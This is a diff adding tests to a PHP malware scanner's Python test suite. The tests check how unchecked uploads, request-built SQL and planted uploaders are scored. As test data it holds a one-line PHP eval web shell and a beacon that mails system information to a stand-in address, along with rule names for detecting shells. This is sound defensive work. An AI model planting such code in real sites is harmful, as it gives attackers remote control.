@@ -13,6 +13,7 @@ from hypothesis import strategies as st
 from scanner_helpers import SAMPLES, analyze_bytes, analyze_file, read_toml, rule_ids
 
 from spamtrace.errors import ConfigError
+from spamtrace.scanner.analyze import VULNERABILITY_CAP
 from spamtrace.scanner.report import ScanVerdict
 from spamtrace.scanner.rules import YaraWords, load_rules, parse_rules, yara_source
 
@@ -577,3 +578,28 @@ def test_a_contact_form_to_the_owners_free_mail_box_is_no_drop() -> None:
     assert result.verdict is ScanVerdict.SUSPICIOUS
     beacon = b"<?php mail('x.example@gmail.com', 'up', php_uname(), 'From: bot@example.invalid');"
     assert "mailer.freemail-drop" in rule_ids(analyze_bytes(beacon))
+
+
+def test_vulnerabilities_together_stay_suspicious_and_intent_still_adds() -> None:
+    """An unchecked upload and SQL built from the request are holes, not intent: together they
+    count at most VULNERABILITY_CAP; a finding of intent on top makes the file malicious."""
+    path = SAMPLES / "suspicious" / "upload-form-recorded.php"
+    result = analyze_file(path)
+    assert {"shell.upload-unchecked", "shell.sql-from-request"} <= rule_ids(result)
+    assert result.score == VULNERABILITY_CAP
+    assert result.verdict is ScanVerdict.SUSPICIOUS
+    data = path.read_bytes() + b"<?php eval($_POST['x']); ?>\n"
+    assert analyze_bytes(data).verdict is ScanVerdict.MALICIOUS
+
+
+def test_an_upload_form_of_a_site_is_no_planted_uploader() -> None:
+    """A self-posting upload form whose file is named by the script (a unique part) or
+    recorded in the site's database is a site's handler; one that keeps the client's name
+    in a folder and nothing more still shows what it is for."""
+    for name in ("upload-form-recorded.php", "upload-form-unique-name.php"):
+        found = rule_ids(analyze_file(SAMPLES / "suspicious" / name))
+        assert "shell.upload-unchecked" in found
+        assert "shell.small-uploader" not in found
+        assert "shell.upload-anywhere" not in found
+    planted = analyze_file(SAMPLES / "malicious" / "upload-unchecked.php")
+    assert "shell.small-uploader" in rule_ids(planted)
